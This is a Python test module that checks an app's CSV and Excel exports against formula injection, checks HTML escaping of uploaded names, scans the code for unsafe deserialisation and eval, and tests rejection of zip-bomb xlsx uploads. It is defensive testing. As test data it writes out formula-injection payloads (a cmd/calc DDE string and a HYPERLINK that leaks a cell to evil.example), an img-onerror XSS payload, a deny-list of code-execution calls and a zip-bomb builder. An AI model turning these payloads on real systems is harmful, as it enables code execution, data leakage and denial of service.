"""Exports are safe to open: no cell of a CSV or Excel export runs as a formula, numbers stay numbers.

``tests/test_export.py`` checks a few fixed cells. This module checks the property on random text
(hypothesis), the full exports of the app (every sheet, every cell) for a data set and framework
uploaded with hostile names, and that nothing in the code base unpickles or executes what users send.
"""
from __future__ import annotations

import csv
import io
import math
import re
import tomllib
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import iiscore
from iiscore import export
from iiscore_app import scenario as S
from iiscore_app.i18n import t

ROOT = Path(__file__).resolve().parent.parent
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
SETTINGS = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def expected_text(s: str, *, xlsx: bool = False) -> str:
    """What a text cell must read back as: escaped when it starts dangerously (after dropping what
    xlsx cannot hold); xlsx, like every XML file, reads CR and CRLF back as LF."""
    if xlsx:
        s = XML_ILLEGAL.sub("", s)
    s = "'" + s if s.startswith(DANGEROUS) else s
    return s.replace("\r\n", "\n").replace("\r", "\n") if xlsx else s


def read_csv_cells(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def xlsx_cells(raw: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


text = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)
dangerous_text = st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\r\n", "\x01=", " ="]),
                           text)
cell_text = st.one_of(text, dangerous_text, st.sampled_from(
    ["=HYPERLINK(\"http://evil\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "-5", "-1.5e3",
     "'=already", "北京", "=北京", "1=1", "", "\ufffe=1"]))
numbers = st.floats(-1e15, 1e15)  # what an index holds; Excel itself cannot hold 1.8e308


@st.composite
def frames(draw):
    n = draw(st.integers(1, 5))
    cols = draw(st.lists(cell_text, min_size=1, max_size=3, unique=True))
    data = {}
    for c in cols:
        data[c] = draw(st.lists(cell_text, min_size=n, max_size=n))
    num_name = draw(cell_text.filter(lambda c: c not in cols))
    data[num_name] = draw(st.lists(numbers, min_size=n, max_size=n))
    return pd.DataFrame(data), cols, num_name


@SETTINGS
@given(frames())
@example((pd.DataFrame({"=name": ["=1+1", "-bad", "@x", "\tx", "\rx", "ok"], "-v": [-1.5, -0.0, -1e300, 0.0, 3.0, -7.0]}),
          ["=name"], "-v"))
def test_csv_escapes_every_dangerous_text_cell_and_keeps_numbers(case):
    df, text_cols, num_col = case
    rows = read_csv_cells(export.to_csv(df))
    header, body = rows[0], rows[1:]
    assert header == [expected_text(str(c)) for c in df.columns]
    assert len(body) == len(df)
    for i, row in enumerate(body):
        for j, c in enumerate(df.columns):
            v = df.iloc[i, j]
            if c == num_col:
                assert float(row[j]) == v  # a number, written as a number (negatives too)
                assert not row[j].startswith("'")
            else:
                assert row[j] == expected_text(v)
            # nothing a spreadsheet would run: text starting dangerously always carries the apostrophe
            if row[j].startswith(DANGEROUS):
                assert c == num_col


@SETTINGS
@given(frames(), cell_text)
@example((pd.DataFrame({"a": ["\x01=1", "\ufffe", "a\x0bb"], "n": [-1.0, -2.5, 3.0]}), ["a"], "n"), "\x02+x")
def test_excel_has_no_formula_and_preserves_text(case, about_value):
    df, text_cols, num_col = case
    about = pd.DataFrame({"setting": ["name", "seed"], "value": [about_value, "-5"]})
    raw = export.to_excel({"t": df}, about, "scenario")
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    for _, c in xlsx_cells(raw):
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(DANGEROUS), (c.coordinate, c.value)
    ws = wb["t"]
    head = [c.value for c in ws[1]]
    assert head == [expected_text(str(c), xlsx=True) or None for c in df.columns]
    for i in range(len(df)):
        for j, col in enumerate(df.columns):
            got = ws.cell(row=i + 2, column=j + 1)
            v = df.iloc[i, j]
            if col == num_col:
                # a number; openpyxl writes 16 significant digits (Excel keeps 15)
                assert got.data_type == "n" and math.isclose(got.value, v, rel_tol=1e-15, abs_tol=1e-300)
            else:
                assert (got.value or "") == expected_text(v, xlsx=True)
    assert wb["scenario"]["B2"].value == (expected_text(about_value, xlsx=True) or None)
    assert wb["scenario"]["B3"].value == "'-5"  # text that looks like a number is still text


def test_numbers_of_every_kind_stay_numbers():
    df = pd.DataFrame({
        "float": [-1.5, -0.0, 1e-300],
        "int": np.array([-3, 0, 7], dtype=np.int64),
        "nullable": pd.array([-2, None, 5], dtype="Int64"),
        "mixed": [-4.25, "=x", None],  # object column: the number stays a number, the text is escaped
        "bool": [True, False, True],
    })
    rows = read_csv_cells(export.to_csv(df))
    assert rows[1][:4] == ["-1.5", "-3", "-2", "-4.25"] and rows[2][0] == "-0.0"
    assert rows[2][3] == "'=x" and rows[2][2] == ""
    ws = openpyxl.load_workbook(io.BytesIO(export.to_excel({"t": df})))["t"]
    for col in "ABC":
        assert ws[f"{col}2"].data_type == "n" and ws[f"{col}2"].value < 0
    assert ws["D2"].value == -4.25 and ws["D2"].data_type == "n" and ws["D3"].value == "'=x"
    assert ws["E2"].data_type == "b"


# -- the app's exports, for data and a framework uploaded with hostile names --------------------------
HOSTILE_REGIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r@2",
                   "-5", "=天津"]
HOSTILE_NODE_NAMES = {"network": ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
                      "basic": ("+基础", "+basic"), "identifier": ("@标识", "-identifier")}


def hostile_upload():
    """A framework whose names and a data file whose regions begin with formula characters."""
    ds, fw = iiscore.load_default(), iiscore.load_default_framework()
    ftab = fw.to_frame()
    for nid, (zh, en) in HOSTILE_NODE_NAMES.items():
        ftab.loc[ftab["id"] == nid, ["name_zh", "name_en"]] = [zh, en]
    m = ds.matrix(2023)
    m.index = [(r, 2023) for r in m.index]
    tpl = export.data_template(fw, ds.regions, [2023], m)
    for i, name in enumerate(HOSTILE_REGIONS):
        tpl.loc[i, "region"] = name
    tpl.loc[len(HOSTILE_REGIONS), "region"] = "新区\x01甲"  # a control character xlsx cannot hold
    tpl.loc[len(HOSTILE_REGIONS) + 1, "region"] = "<img src=x onerror=alert(1)>"
    # CRLF line ends, so the csv writer quotes the CR inside "\r@2" (as the app's own export does)
    return tpl.to_csv(index=False, lineterminator="\r\n").encode(), ftab.to_csv(index=False).encode()


@pytest.fixture(scope="module")
def uploaded():
    """The app's own upload path (``state._upload_bundle``) and evaluation (``state.Eval``), outside Streamlit."""
    from iiscore_app import state

    data, fwb = hostile_upload()
    key = "test-export-safety"
    b = state._upload_bundle(key, "evil.csv", "evil_fw.csv", data, fwb)
    return b, state


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_app_exports_escape_uploaded_names(uploaded, lang):
    from iiscore_app import views

    b, state = uploaded
    regions = set(b.ds.regions)
    for name in HOSTILE_REGIONS:
        assert name.strip() in regions or name in regions  # kept, not dropped, by the loader
    scn = b.context.defaults.replace(lang=lang, year=b.ds.years[-1])
    top = state.Eval(scn, b).current.composite.idxmax()
    # the leader loses 90 % everywhere: negative rank changes, and edited values in the export
    scn = scn.replace(edits=[(top, leaf, "pct", -90.0) for leaf in b.fw.leaves])
    ev = state.Eval(scn, b)
    link = "?s=" + S.encode(scn, b.context)
    # exactly what the sidebar's download buttons produce (iiscore_app/ui.py::_export_tools)
    xlsx = export.to_excel(views.export_tables(ev, lang), views.about_table(scn, b, lang, link),
                           t("col.scenario", lang))
    ranking_csv = export.to_csv(views.ranking_table(ev, lang))

    texts = []
    n_numbers = n_negative = 0
    for sheet, c in xlsx_cells(xlsx):
        assert c.data_type != "f", (sheet, c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(DANGEROUS), (sheet, c.coordinate, c.value)
            texts.append(c.value)
        elif isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
            n_numbers += 1
            n_negative += c.value < 0
    assert n_numbers > 500 and n_negative > 0  # scores and values are numbers; rank changes can be negative
    for name in HOSTILE_REGIONS:
        assert expected_text(name.strip(), xlsx=True) in texts, name
    for zh, en in HOSTILE_NODE_NAMES.values():
        assert expected_text(zh if lang == "zh" else en, xlsx=True) in texts
    assert "新区甲" in texts  # the xlsx is still written, without the control character

    rows = read_csv_cells(ranking_csv)
    flat = [c for r in rows for c in r]
    for cell in flat:
        if cell.startswith(DANGEROUS):
            float(cell)  # only numbers may start with '-' (rank changes)
    for name in HOSTILE_REGIONS:
        assert expected_text(name.strip()) in flat
    assert expected_text("+基础" if lang == "zh" else "+basic") in rows[0]

    # the scenario JSON export is data, not a spreadsheet: it reads back unchanged
    back, notes = S.from_json(S.to_json(scn, b.context), b.context)
    assert back == scn and notes == []


# -- nothing unpickles or executes what users send --------------------------------------------------
FORBIDDEN = {
    r"\bpickle\.loads?\(": "unpickling runs code",
    r"\bread_pickle\(": "unpickling runs code",
    r"\b(c?Pickle|dill|joblib|shelve|marshal)\b": "deserialisers that run code",
    r"(?<![\w.])eval\(": "eval",
    r"(?<![\w.])exec\(": "exec",
    r"\.eval\(": "pandas eval/query parse expressions",
    r"\.query\(": "pandas eval/query parse expressions",
    r"\byaml\.(unsafe_)?load\(": "yaml.load constructs objects",
    r"__import__\(": "dynamic import",
    r"\bos\.system\(|\bsubprocess\b|\bpopen\(": "shell",
    r"unsafe_allow_javascript|components\.html\(": "script injection into the page",
}
# (file, pattern) pairs that are legitimate; none today
ALLOWED: set = set()


def code_files():
    files = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")), *sorted((ROOT / "iiscore_app").rglob("*.py")),
             *sorted((ROOT / "iiscore").rglob("*.py"))]
    assert len(files) > 20
    return files


def test_nothing_unpickles_or_executes_uploads():
    hits = []
    for f in code_files():
        rel = f.relative_to(ROOT).as_posix()
        for lineno, line in enumerate(f.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            for pattern, why in FORBIDDEN.items():
                if re.search(pattern, code) and (rel, pattern) not in ALLOWED:
                    hits.append(f"{rel}:{lineno}: {why}: {line.strip()}")
    assert not hits, "\n".join(hits)


def test_the_grep_would_catch_them(tmp_path):
    """The patterns above match the calls they are meant to catch (and not ordinary names)."""
    bad = ["pickle.load(f)", "x = pickle.loads(raw)", "eval(text)", "exec(code)", "df.eval('a+b')",
           "pd.read_pickle(p)", "df.query(q)", "yaml.load(s)", "subprocess.run(c)", "import marshal"]
    fine = ["ev.current", "evaluate(scn)", "retrieve(x)", "state.evaluate()", "executor = 1", "ev, err = f()"]
    assert all(any(re.search(p, s) for p in FORBIDDEN) for s in bad)
    assert not any(re.search(p, s) for p in FORBIDDEN for s in fine)


def test_html_from_users_is_escaped(uploaded):
    """Region names from an upload reach the ``unsafe_allow_html`` markdown only escaped."""
    from iiscore_app import views

    b, state = uploaded
    evil = next(r for r in b.ds.regions if r.startswith("<img"))
    escaped = "&lt;img src=x onerror=alert(1)&gt;"
    base = b.context.defaults.replace(year=b.ds.years[-1])
    up = state.Eval(base.replace(edits=[(evil, leaf, "pct", 1000.0) for leaf in b.fw.leaves]), b)
    down = state.Eval(base.replace(edits=[(evil, leaf, "pct", -99.0) for leaf in b.fw.leaves]), b)
    assert up.current.ranks[b.fw.root][evil] == 1  # in the top-10 line
    assert down.tiers.tier[evil] != down.tiers_baseline.tier[evil]  # among the tier-shift cards
    for html in (views.top_line(up, "zh"), views.shift_html(down, "en"), views.shift_html(down, "zh", False)):
        assert escaped in html and "<img" not in html


def test_upload_size_is_capped():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert "maxUploadSize" in cfg["server"]
    assert 0 < int(cfg["server"]["maxUploadSize"]) <= 200  # MB; Streamlit refuses anything larger itself


# -- uploads that unpack to far more than they weigh --------------------------------------------------
def xlsx_bomb(rows: int) -> bytes:
    """A valid .xlsx of a few hundred KB whose sheet unpacks to ``rows`` identical rows (tens of MB).

    openpyxl reads every row before the loader can complain: 46 MB unpacked (185 KB uploaded) took
    20 s of CPU and 155 MB; a 20 MB upload (the size cap) would unpack to gigabytes."""
    import zipfile

    base = export.to_excel({"data": pd.DataFrame({"region": ["北京"], "year": [2023], "network": [1.0]})})
    zin = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    row = ('<row><c t="inlineStr"><is><t>北京</t></is></c><c><v>2023</v></c>'
           + "<c><v>1</v></c>" * 6 + "</row>").encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                z.writestr(item, data)
                continue
            head, _, rest = data.decode().partition("<sheetData>")
            head = re.sub(r"<dimension [^>]*/>", "", head)  # no dimension: openpyxl reads every row
            real_rows, _, tail = rest.partition("</sheetData>")  # the header and the one real row
            with z.open(item.filename, "w", force_zip64=True) as f:
                f.write((head + "<sheetData>" + real_rows).encode())
                for _ in range(rows // 1000):
                    f.write(row * 1000)
                f.write(("</sheetData>" + tail).encode())
    return out.getvalue()


def test_xlsx_that_unpacks_to_gigabytes_is_refused_before_parsing(tmp_path, capsys):
    """A shared server must not spend minutes and gigabytes on one small hostile upload."""
    import zipfile

    from iiscore.errors import IIScoreError
    from iiscore_app import state

    from iiscore import limits

    bomb = xlsx_bomb(600_000)  # past the unpacked limit (80 MB since issue 17: a county workbook is 56 MB)
    unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert len(bomb) < 1 * 2**20 and unpacked > limits.MAX_UNPACKED_BYTES
    with pytest.raises(IIScoreError) as exc:
        state._upload_bundle(state.upload_key(bomb), "bomb.xlsx", None, bomb, None)
    assert "unpack" in exc.value.message("en") and "解压" in exc.value.message("zh")
    assert exc.value.file == "bomb.xlsx"
    # as a framework file too
    with pytest.raises(IIScoreError, match="unpack"):
        state._upload_bundle(state.upload_key(b"x", bomb), "d.csv", "fw.xlsx", b"region,year\n", bomb)
    # the command line refuses it the same way: one line, exit status 2, no traceback
    from iiscore.cli import main

    bomb_file = tmp_path / "bomb.xlsx"
    bomb_file.write_bytes(bomb)
    assert main(["score", "--data", str(bomb_file)]) == 2
    err = capsys.readouterr().err.strip()
    assert "bomb.xlsx" in err and "unpack" in err and "Traceback" not in err and len(err.splitlines()) == 1
    # an ordinary workbook still loads through the same path
    ds, fw = iiscore.load_default(), iiscore.load_default_framework()
    m = ds.matrix(2023)
    m.index = [(r, 2023) for r in m.index]
    ok = export.to_excel({"data": export.data_template(fw, ds.regions, [2023], m)})
    b = state._upload_bundle(state.upload_key(ok), "ok.xlsx", None, ok, None)
    assert b.ds.regions == ds.regions and b.ds.years == (2023,)
